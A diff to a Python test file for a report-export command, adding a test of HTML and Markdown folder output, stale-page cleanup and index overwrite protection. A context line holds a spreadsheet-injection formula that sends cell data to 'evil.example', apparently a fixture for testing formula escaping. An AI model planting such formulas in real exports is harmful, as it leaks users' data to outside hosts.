@@ -127,6 +127,29 @@ def test_only_what_the_last_run_asked_is_exported(tmp_path: Path) -> None:
     assert (last.returncode, everything.returncode) == (0, 0)
 
 
+@pytest.mark.parametrize(("form", "suffix"), [("html", "html"), ("markdown", "md")])
+def test_folder_has_an_index_and_a_file_for_each_answer(
+    folder: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str], form: str, suffix: str
+) -> None:
+    report, journal = tmp_path / "report", str(folder / "companies.csv.journal.db")
+    words = ["export", journal, "-o", f"{report}/", "--output-format", form]
+    assert main(words) == 0
+    pages = [f"0000{number}.{suffix}" for number in range(1, 5)]
+    assert sorted(path.name for path in report.iterdir()) == [*pages, f"index.{suffix}"]
+    index = (report / f"index.{suffix}").read_text()
+    for number, company in enumerate(("ACME", "Vasa", "Müller", "Bad"), 1):
+        assert f"0000{number}.{suffix}" in index
+        assert f"What did {company}" in (report / pages[number - 1]).read_text()
+    (report / f"00009.{suffix}").write_text("of a longer run")
+    assert main(words) == 0  # it knows its own folder
+    assert sorted(path.name for path in report.iterdir()) == [*pages, f"index.{suffix}"]
+    (report / f"index.{suffix}").write_text("mine")
+    assert main(words) == 2
+    assert (report / f"index.{suffix}").read_text() == "mine"
+    assert main([*words[:-1], "csv"]) == 2
+    assert "is a folder, which holds a report: --output-format html or markdown" in capfd.readouterr().err
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
